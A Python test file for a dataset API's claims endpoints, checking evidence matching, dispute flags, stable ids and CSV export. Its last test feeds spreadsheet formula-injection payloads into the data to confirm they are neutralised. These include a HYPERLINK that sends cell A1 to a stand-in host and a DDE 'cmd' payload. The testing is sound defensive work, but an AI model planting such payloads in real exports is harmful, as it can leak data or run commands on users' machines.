"""Claims: every fact with every passage, flat, in JSON and as a table."""

import csv
import io
import json
from pathlib import Path

import httpx

from app.data.dataset import load_dataset
from tests.contract.conftest import Json, Serve
from tests.data.breaking import change

_FORMULA = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001 -- full-width forms count, too


def _resolve(part: object, pointer: str) -> object:
    for name in pointer.split("/")[1:]:
        key = name.replace("~1", "/").replace("~0", "~")
        part = part[int(key)] if isinstance(part, list) else part[key]  # type: ignore[index]
    return part["id"] if isinstance(part, dict) else part


def test_claims_are_what_resources_show_and_what_their_evidence_says_instead(
    collections: dict[str, list[Json]], claims: list[Json]
) -> None:
    items = {one["id"]: one for items in collections.values() for one in items}
    for claim in claims:
        subject = items[claim["subject"]["id"]]
        if claim["shown"]:
            assert _resolve(subject, claim["pointer"]) == claim["value"], claim["id"]
        same = ("rank", "basis", "source", "locator", "link", "quote", "note")
        assert any(
            all(entry.get(name) == claim.get(name) for name in same)
            and ("value" not in entry if claim["shown"] else entry.get("value") == claim["value"])
            for entry in subject["evidence"]
        ), claim["id"]
    told = {(one["subject"]["id"], one["source"]["id"], one["link"]) for one in claims}
    for item in items.values():
        for entry in item.get("evidence", []):
            assert (item["id"], entry["source"]["id"], entry["link"]) in told


def test_disputed_are_the_claims_on_a_field_for_which_a_source_has_another_value(
    claims: list[Json],
) -> None:
    others = {(one["subject"]["id"], one["pointer"]) for one in claims if not one["shown"]}
    assert others
    for claim in claims:
        slug, pointer = claim["subject"]["id"], claim["pointer"]
        differs = any(slug == one and f"{pointer}/".startswith(f"{at}/") for one, at in others)
        assert claim["disputed"] is differs, claim["id"]


def test_ids_change_only_when_what_is_claimed_changes(small: Path) -> None:
    before = load_dataset(small).claims.by_id
    (agreement,) = json.loads((small / "agreements.json").read_bytes())
    first, *others = reversed(agreement["evidence"])
    evidence = [{**first, "rank": "preferred"}, *others]
    change(small, {"agreements/0/evidence": evidence, "agreements/0/unknowns": []})
    assert set(load_dataset(small).claims.by_id) == set(before)

    change(small, {"agreements/0/signed": "2020-04-30"})
    after = load_dataset(small).claims.by_id
    assert [before[one].pointer for one in set(before) - set(after)] == ["/signed"]
    assert [after[one].value for one in set(after) - set(before)] == ["2020-04-30"]


def _rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.headers["content-type"] == "text/csv; header=present; charset=utf-8"
    assert answer.content.count(b"\xef\xbb\xbf") == answer.content.startswith(b"\xef\xbb\xbf") == 1
    text = answer.raise_for_status().content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_table_has_a_row_for_each_claim_with_all_that_it_says(
    client: httpx.Client, claims: list[Json]
) -> None:
    for row, claim in zip(_rows(client.get("/claims.csv")), claims, strict=True):
        for name in ("subject", "source"):
            assert (row.pop(name), row.pop(f"{name}_name")) == (
                claim[name]["id"],
                claim[name]["name"],
            )
        assert row.pop("subject_type") == claim["subject"]["type"]
        for name, cell in row.items():
            value = claim.get(name, "")
            text = "; ".join(value) if isinstance(value, list) else str(value)
            text = text.upper() if isinstance(value, bool) else text
            assert cell == (f"'{text}" if text.startswith(_FORMULA) else text), (claim["id"], name)
        assert claim.keys() - row.keys() == {"type", "subject", "source", "href"}


def test_the_table_is_filtered_as_the_list_is(client: httpx.Client, claims: list[Json]) -> None:
    source = claims[0]["source"]["id"]
    rows = _rows(client.get("/claims.csv", params={"source": source, "disputed": "false"}))
    chosen = [one for one in claims if one["source"]["id"] == source and not one["disputed"]]
    assert [row["id"] for row in rows] == [one["id"] for one in chosen]
    assert _rows(client.get("/claims.csv", params={"source": "nothing-has-this"})) == []


def test_no_cell_is_a_formula_whatever_the_data_says(small: Path, serve_small: Serve) -> None:
    formulas = [
        '=HYPERLINK("http://x.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ]
    formulas += ["＝1+1"]  # noqa: RUF001 -- that is the point
    hostile = [*formulas, 'a "quoted", word; =1+1']
    note = json.loads((small / "parties.json").read_bytes())[0]["evidence"][0]
    for number, text in enumerate(hostile):
        party = {"id": f"p{number}", "name": {"en": text}, "evidence": [{**note, "note": text}]}
        change(small, {"parties/-": party})
    base = serve_small()
    rows = {row["subject"]: row for row in _rows(httpx.get(f"{base}/claims.csv"))}
    for number, text in enumerate(hostile):
        shown = f"'{text}" if text in formulas else text
        row = rows[f"p{number}"]
        assert [row["value"], row["subject_name"], row["note"]] == [shown] * 3
        assert httpx.get(f"{base}/parties/p{number}").json()["name"]["en"] == text
    assert not [cell for row in rows.values() for cell in row.values() if cell.startswith(_FORMULA)]
